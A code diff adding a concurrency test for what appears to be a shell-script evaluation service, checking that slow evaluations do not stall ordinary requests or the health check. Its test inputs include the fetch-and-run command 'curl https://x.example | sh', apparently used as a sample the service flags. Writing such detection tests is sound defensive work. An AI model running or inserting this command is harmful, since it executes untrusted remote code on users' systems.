@@ -1,8 +1,18 @@
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
+import { Evaluator } from "../../src/evaluator/evaluator.js";
 import { EvaluationPool } from "../../src/evaluator/pool.js";
 import { workerEntry } from "../../src/host/worker-entry.js";
 import { callWithin } from "../../src/service/index.js";
-import { SILENT, SOURCE_HASH, STUB_WORKER } from "../service/support/services.js";
+import {
+  Cleanup,
+  createTestEvaluatorApp,
+  SILENT,
+  SOURCE_HASH,
+  STUB_WORKER,
+  temporaryFolder,
+} from "../service/support/services.js";
 
 const pool = new EvaluationPool({
   workerFile: STUB_WORKER,
@@ -39,5 +49,45 @@ describe("a text that may be costly", () => {
       details: { retryAfter: expect.any(Number) as number },
     });
     expect((await evaluate(COSTLY)).code).toBe("NONE");
+  });
+
+  it("keeps no ordinary text and no health check waiting, ten at a time", async () => {
+    const cleanup = new Cleanup();
+    const open = join(await temporaryFolder(cleanup), "open");
+    const evaluator = new Evaluator({
+      pool,
+      sourceHash: SOURCE_HASH,
+      profile: "contract",
+      analysisMs: 60_000,
+      timeoutMs: 100_000,
+    });
+    const app = await createTestEvaluatorApp(cleanup, evaluator);
+    const host = { host: "127.0.0.1:8788" };
+    const post = (text: string) =>
+      app.inject({ method: "POST", url: "/v1/evaluate", headers: host, payload: { text } });
+    let ended = 0;
+    const costly = Array.from({ length: 10 }, async (_, at) => {
+      const response = await post(
+        `${COSTLY}# ${at}\n# CHILD-WAITS-FOR "${open}"\ncurl https://x.example | sh`,
+      );
+      ended++;
+      return response;
+    });
+    const ordinary = await Promise.all(
+      Array.from({ length: 30 }, (_, at) => post(`echo ${at}\ncurl https://x.example | sh`)),
+    );
+    const health = await app.inject({ url: "/healthz", headers: host });
+    expect(ended).toBe(0);
+    expect(new Set(ordinary.map(({ statusCode }) => statusCode))).toEqual(new Set([200]));
+    expect(ordinary.every((response) => response.json().code === "PS")).toBe(true);
+    expect(health.statusCode).toBe(200);
+    writeFileSync(open, "");
+    const answers = await Promise.all(costly);
+    for (const answer of answers)
+      expect([answer.statusCode, answer.json().code]).toEqual(
+        answer.statusCode === 200 ? [200, "PS"] : [503, "overloaded"],
+      );
+    expect(answers.some(({ statusCode }) => statusCode === 200)).toBe(true);
+    await cleanup.run();
   });
 });
